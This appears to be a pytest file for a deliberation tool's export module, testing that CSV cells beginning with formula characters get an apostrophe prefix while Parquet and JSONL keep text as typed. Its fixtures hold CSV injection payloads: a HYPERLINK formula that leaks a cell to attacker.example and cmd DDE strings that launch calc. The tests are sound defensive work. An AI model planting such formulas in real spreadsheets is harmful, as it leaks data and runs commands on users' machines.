"""CSV exports are safe to open in a spreadsheet (issue 17 item 6): a text cell that a spreadsheet would
read as a formula (=, +, -, @, tab, carriage return) is written with a leading apostrophe, as OWASP
advises; Parquet and JSONL keep the text verbatim, and the datasheet says so.
"""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from walk import card_in, to_card

from workbench import exports
from workbench.exports import spreadsheet_safe
from workbench.store import open_store

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
COMMENT = "=2+2"
DESCRIPTION = "+cmd|' /C calc'!A0"
POLICY = "-MOMENTS when 2+3 becomes a formula"
CONTEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
TABBED = "\t=1+1 hidden behind a tab"  # forms trim it; imported text may keep it
DASHED = "-- a description that starts with dashes"
QUOTED = "'=already quoted"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def store(tmp_path, demo_spec):
    s = open_store(tmp_path / "csv.duckdb")
    s.save_deliberation(demo_spec)
    (a, _), (b, _) = s.create_invites("demo", 2)
    card = to_card(s, a, card_in(title=HYPERLINK, description=DESCRIPTION,
                                 policies=[POLICY, "SIGNS of a tab", QUOTED], contexts=[CONTEXT]))[1]
    other = to_card(s, b, card_in(title="Plain Listening", description=DASHED))[1]
    value = s.split_card(card)
    plain = s.split_card(other)
    s.plan_round(b, "wiser", [{"from_id": plain, "to_id": value, "context": CONTEXT}])
    s.answer_wiser(b, 0, "upgrade", COMMENT)
    s.plan_round(b, "endorse", [value])
    s.endorse(b, 0, "disagree")  # a -1 vote: a number, never touched
    return s


def test_spreadsheet_safe_prefixes_formula_starts_and_round_trips():
    for text in (HYPERLINK, COMMENT, DESCRIPTION, POLICY, CONTEXT, TABBED, "\r=1", QUOTED, "'plain"):
        safe = spreadsheet_safe(text)
        assert safe == "'" + text and not safe.startswith(FORMULA_START) and safe[1:] == text
    for text in ("plain words", "", "1+1=2", "p17", 'a "quoted" =x'):
        assert spreadsheet_safe(text) == text
    assert spreadsheet_safe(-1) == -1 and spreadsheet_safe(None) is None


@settings(max_examples=200, deadline=None)
@given(text=st.text(st.sampled_from("=+-@\t\r'a1 ,\"\n"), max_size=12) | st.text(max_size=30))
def test_any_text_is_written_so_a_spreadsheet_reads_it_as_text_and_it_comes_back(text):
    safe = spreadsheet_safe(text)
    assert not safe.startswith(FORMULA_START)
    assert (safe[1:] if safe.startswith("'") else safe) == text


def test_csv_exports_are_neutralised_and_parquet_and_jsonl_keep_the_text(store, tmp_path):
    files = {f.table: f.path for f in exports.export(store, "demo", "all", "csv", tmp_path / "csv")}
    # Opened as a spreadsheet would: every cell of every CSV file, polis ones included.
    cells = []
    for path in (tmp_path / "csv").rglob("*.csv"):
        with open(path, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        cells += [(path.name, c) for row in rows[1:] for c in row]
        assert not any(c.startswith(FORMULA_START) and not _number(c) for c in rows[0]), path.name
    dangerous = [(name, c) for name, c in cells if c.startswith(FORMULA_START) and not _number(c)]
    assert dangerous == []
    assert any(name == "votes.csv" and c == "-1" for name, c in cells), "a -1 vote stays a number"

    cards = pd.read_csv(files["cards"], dtype=str, keep_default_na=False).set_index("card_id")
    assert "'" + HYPERLINK in set(cards["title"]) and "'" + DESCRIPTION in set(cards["description"])
    assert "'" + DASHED in set(cards["description"])
    row = cards[cards["title"] == "'" + HYPERLINK].iloc[0]
    # Inside a JSON array the text is not at the start of a cell: json.loads gives it back as typed.
    assert json.loads(row["policies"])[0] == POLICY and json.loads(row["contexts"]) == [CONTEXT]
    answers = pd.read_csv(files["wiser-answers"], dtype=str, keep_default_na=False)
    assert list(answers["comment"]) == ["'" + COMMENT] and list(answers["context"]) == ["'" + CONTEXT]
    comments = pd.read_csv(files["polis comments"], dtype=str, keep_default_na=False)
    assert any(b.startswith("'=HYPERLINK") for b in comments["comment-body"])
    sheet = files["datasheet"].read_text(encoding="utf-8")
    assert "CSV formula injection" in sheet and "Parquet and JSONL files" in sheet

    for fmt, read in (("parquet", pd.read_parquet), ("jsonl", lambda p: pd.read_json(p, lines=True, dtype=False))):
        written = {f.table: f.path for f in exports.export(store, "demo", "all", fmt, tmp_path / fmt)}
        verbatim = read(written["cards"])
        assert HYPERLINK in set(verbatim["title"]) and DASHED in set(verbatim["description"]), fmt
        assert list(read(written["wiser-answers"])["comment"]) == [COMMENT], fmt


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
